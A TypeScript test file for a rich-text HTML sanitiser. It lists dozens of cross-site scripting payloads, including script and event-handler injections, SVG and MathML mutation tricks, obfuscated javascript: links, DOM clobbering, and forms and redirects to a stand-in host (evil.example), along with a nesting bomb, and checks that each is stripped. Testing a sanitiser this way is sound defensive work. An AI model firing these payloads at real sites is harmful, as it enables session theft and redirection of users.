import { describe, expect, test } from 'vitest';
import { richTextToStore, sanitised } from './sanitise.ts';
import { shownRichTexts } from './stored-rich-text.ts';

/** Hostile input, and the most that may remain of it. */
const attacks: [name: string, html: string, left: string][] = [
  ['a script', '<p>a<script>alert(1)</script></p>', '<p>a</p>'],
  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>a</p>', '<p>a</p>'],
  ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
  ['an event', '<p onclick="alert(1)" onmouseover=alert(1)>a</p>', '<p>a</p>'],
  ['a picture', '<img src=x onerror=alert(1)>a', 'a'],
  ['an svg', '<svg onload=alert(1)><p>a</p></svg>', '<p>a</p>'],
  [
    'an svg with an animated link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /></a>a</svg>',
    'a',
  ],
  [
    'mathml',
    '<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>a',
    'a',
  ],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>a', 'a'],
  ['an object', '<object data="data:text/html,x"></object><embed src=x>a', 'a'],
  ['a style', '<style>*{background:url(//evil.example)}</style><p style="color:red">a</p>', '<p>a</p>'],
  ['a form', '<form action="//evil.example"><input name=p><button>a</button></form>', 'a'],
  ['a base', '<base href="//evil.example/"><p>a</p>', '<p>a</p>'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=//evil.example">a', 'a'],
  ['a javascript link', '<a href="javascript:alert(1)">a</a>', 'a'],
  ['the same with entities', '<a href="&#106;avascript&colon;alert(1)">a</a>', 'a'],
  ['the same with a tab', '<a href="java\tscript:alert(1)">a</a>', 'a'],
  ['the same with a control character', '<a href="\u0001javascript:alert(1)">a</a>', 'a'],
  ['a data link', '<a href="data:text/html;base64,PHN2Zz4=">a</a>', 'a'],
  ['a file link', '<a href="file:///etc/passwd">a</a>', 'a'],
  ['a link without a scheme', '<a href="//evil.example">a</a>', 'a'],
  ['a relative link', '<a href="/v3/signout">a</a>', 'a'],
  ['a link with a password', '<a href="https://bank.example:x@evil.example/">a</a>', 'a'],
  ['a link with a user', '<a href="https://bank.example@evil.example/">a</a>', 'a'],
  [
    'attributes of a link',
    '<a href="https://a.example/" target=_top id=x name=cookie class=y>a</a>',
    '<a href="https://a.example/">a</a>',
  ],
  [
    'a link that leaves its quotes',
    '<a href="https://a.example/&quot; onclick=&quot;alert(1)">a</a>',
    '<a href="https://a.example/%22%20onclick=%22alert(1)">a</a>',
  ],
  ['a comment', 'a<!-- --!><script>alert(1)</script> -->', 'a --&gt;'],
  ['a conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->a', 'a'],
  ['a section of XML', '<![CDATA[<script>alert(1)</script>]]>a', 'a'],
  ['clobbering names', '<p id="getElementById" name="cookie">a</p>', '<p>a</p>'],
  [
    'text that looks like marks',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ],
  ['marks that are never closed', '<p><strong>a', '<p><strong>a</strong></p>'],
  [
    'a text that hides a mark',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</noscript>',
    '<p>a</p>',
  ],
  ['a template', '<template><script>alert(1)</script></template><p>a</p>', '<p>a</p>'],
];

describe('the sanitiser', () => {
  test.each(attacks)('removes %s', (_name, html, left) => {
    const once = sanitised(html);
    expect(once).toBe(left);
    expect(sanitised(once)).toBe(once);
  });

  test('keeps the allowed elements and the text', () => {
    const html =
      '<p>Win <strong>two</strong> <em>new</em> <u>markets</u><br />now</p><ul><li>one</li></ul><ol><li><a href="mailto:ada@a.example">two</a></li></ol>';
    expect(sanitised(html)).toBe(html);
    expect(sanitised('<b>a</b><i>b</i>')).toBe('<strong>a</strong><em>b</em>');
    expect(sanitised('<a href="HTTPS://A.example/x y">a</a>')).toBe(
      '<a href="https://a.example/x%20y">a</a>',
    );
  });

  test.each([
    '',
    ' ',
    '<p></p>',
    '<p>&nbsp;</p><br>',
    '<ul><li>\u200b</li></ul>',
    '<p>\u3164\u2800</p>',
    '<img src=x>',
  ])('returns nothing for %o, which shows nothing', (html) => {
    expect(sanitised(html)).toBe('');
  });

  test('nests at most twenty deep', () => {
    const clean = sanitised(`${'<ul><li>'.repeat(60)}a${'</li></ul>'.repeat(60)}`);
    expect(clean.match(/<(ul|li)>/g)?.length).toBeLessThanOrEqual(20);
    expect(clean).toContain('a');
  });

  test('takes bounded time for a bomb of nested elements', () => {
    const before = process.cpuUsage();
    for (const mark of ['<p>', '<ul><li>', '<strong>', '<a href="https://a.example">', '<svg>', '<'])
      sanitised(mark.repeat(1_000_000 / mark.length));
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1_000, 'milliseconds of CPU time').toBeLessThan(5_000);
  });

  test('refuses a sanitised text of more than 20,000 characters, at its field', () => {
    expect(richTextToStore(`<p>${'a'.repeat(19_993)}</p>`, 'Mission', 'Mission')).toHaveLength(20_000);
    expect(richTextToStore(`<p style="${'x'.repeat(30_000)}">a</p>`, 'Mission', 'Mission')).toBe('<p>a</p>');
    for (const html of [`<p>${'a'.repeat(19_994)}</p>`, '<p>'.repeat(100_000)]) {
      expect(() => richTextToStore(html, 'Mission', 'Mission statement')).toThrow(
        expect.objectContaining({
          status: 400,
          message: 'Mission statement can have at most 20,000 characters.',
          errors: [expect.objectContaining({ path: 'Mission' })],
        }),
      );
    }
  });
});

test.each([
  ['<h1>Head</h1><blockquote>q</blockquote>', '<p>Head</p><p>q</p>'],
  ['<div>one</div><div>two</div>', '<p>one</p><p>two</p>'],
  [
    '<div>lead<p>one</p>between<ul><li>two</li></ul></div>',
    '<p>lead</p><p>one</p><p>between</p><ul><li>two</li></ul>',
  ],
  ['<blockquote><p>one</p><p>two</p></blockquote>', '<p>one</p><p>two</p>'],
  [
    '<table><thead><tr><th>Goal</th><th>Result</th></tr></thead><tbody><tr><td>A &amp; B</td><td>90 %</td></tr></tbody></table>',
    '<p>Goal · Result</p><p>A &amp; B · 90 %</p>',
  ],
  ['<table><tr><td><p>one</p></td><td><p>two</p></td></tr></table>', '<p>one</p><p>two</p>'],
  ['before<hr>after', 'before<br />after'],
  ['<li><h2>in a list</h2></li>', '<li><p>in a list</p></li>'],
  ['<h2><b>bold</b> <script>x</script>head</h2>', '<p><strong>bold</strong> head</p>'],
])('keeps blocks and cells from outside the editor apart: %s', (html, clean) => {
  expect(sanitised(html)).toBe(clean);
  expect(sanitised(clean)).toBe(clean);
});

test('stored texts are sanitised again when they are read', async () => {
  const texts = { mission: '<p onclick=x>a</p>', vision: '', values: '<script>x</script>' };
  const shown = { mission: '<p>a</p>', vision: '', values: '' };
  expect(await shownRichTexts(texts)).toEqual(shown);
});
